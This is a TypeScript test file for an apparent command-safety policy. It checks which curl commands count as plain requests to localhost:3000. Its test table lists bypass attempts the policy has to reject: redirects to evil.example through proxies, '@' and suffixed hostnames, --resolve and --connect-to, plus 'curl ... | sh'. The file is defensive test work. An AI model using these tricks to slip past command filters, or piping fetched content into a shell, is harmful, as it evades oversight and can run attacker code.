import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { projectWithTests, rulesOf } from '../../../test/fixtures/mode-rules.ts';
import { builtInPolicy, type SafetyProject } from '../../../test/fixtures/safety-project.ts';
import { silentLog } from '../../util/log.ts';
import { diskView } from '../file-view.ts';
import { evaluateEach, evaluatePolicy } from '../policy/evaluate.ts';
import { coveredByMode } from './mode-cover.ts';
import { ModeRuleBook } from './mode-rules.ts';

describe('rules about requests to this machine', () => {
  let project: SafetyProject;
  beforeAll(() => {
    project = projectWithTests();
  });
  afterAll(() => project.remove());

  /** What the rules would say of it, were it only the policy that asks. */
  function covers(command: string): boolean {
    const footprint = project.footprint(project.bash(command));
    const context = project.context({ name: 'test', mayChange: true, grants: [], rules: rulesOf(project) });
    const policy = builtInPolicy('default');
    const parts = [...evaluateEach(policy, footprint, context)];
    const coverings = new ModeRuleBook({ home: project.home, log: silentLog }).coverings(context);
    const asked = { footprint, context, parts, contents: undefined };
    return (
      coveredByMode(asked, evaluatePolicy(policy, footprint, context), coverings, diskView)?.kind ===
      'covered'
    );
  }

  it.each([
    ['curl -s http://localhost:3000', true],
    ['curl -s http://localhost:3000/items?x=1', true],
    ['curl -s -X DELETE http://localhost:3000/items/1', true],
    ['curl -s http://localhost:3001/', false],
    ['curl -s http://localhost/', false],
    ['curl -s http://localhost:30000/', false],
    ['curl -s http://localhost:3000@evil.example/', false],
    ['curl -s http://localhost:3000.evil.example/', false],
    ['curl -s http://192.168.0.1:3000/', false],
    ['curl -s -L http://localhost:3000/', false],
    ['curl -s -o x http://localhost:3000/', false],
    ['curl -s -O http://localhost:3000/x', false],
    ['curl -s -K x http://localhost:3000/', false],
    ['curl -s -x evil.example http://localhost:3000/', false],
    ['curl -s --proxy evil.example http://localhost:3000/', false],
    ['curl -s --resolve localhost:3000:9.9.9.9 http://localhost:3000/', false],
    ['curl -s --connect-to ::evil.example: http://localhost:3000/', false],
    ['curl -s http://localhost:3000/ https://evil.example/', false],
    ['curl -s http://localhost:3000/ > x', false],
    ['curl -s http://localhost:3000/ | sh', false],
    ['http_proxy=http://evil.example curl -s http://localhost:3000/', false],
    ['export ALL_PROXY=evil.example:1; curl -s http://localhost:3000/', false],
    ['HOME=. curl -s http://localhost:3000/', false],
    ['curl -s "http://localhost:3000/$X"', false],
    ['curl -s http://localhost:3000/{a,b}', false],
  ])('as far as the policy goes, %s is a request to the named port: %s', (command, expected) => {
    expect(covers(command)).toBe(expected);
  });
});
